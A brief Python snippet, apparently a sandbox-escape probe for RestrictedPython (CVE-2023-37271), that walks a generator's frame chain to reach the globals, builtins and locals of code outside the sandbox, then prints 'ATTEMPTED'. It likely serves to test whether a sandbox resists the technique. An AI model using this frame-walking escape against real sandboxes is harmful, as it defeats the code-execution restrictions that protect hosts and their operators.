# Walks the frames of a generator out of the sandbox's own functions.
# advisory: CVE-2023-37271 (RestrictedPython)
def walk():
    frame = generator.gi_frame
    for _ in range(50):
        if frame is None:
            return
        yield frame
        frame = frame.f_back


generator = walk()
for frame in generator:
    reach(frame.f_globals, frame.f_builtins, frame.f_locals)
print("ATTEMPTED")
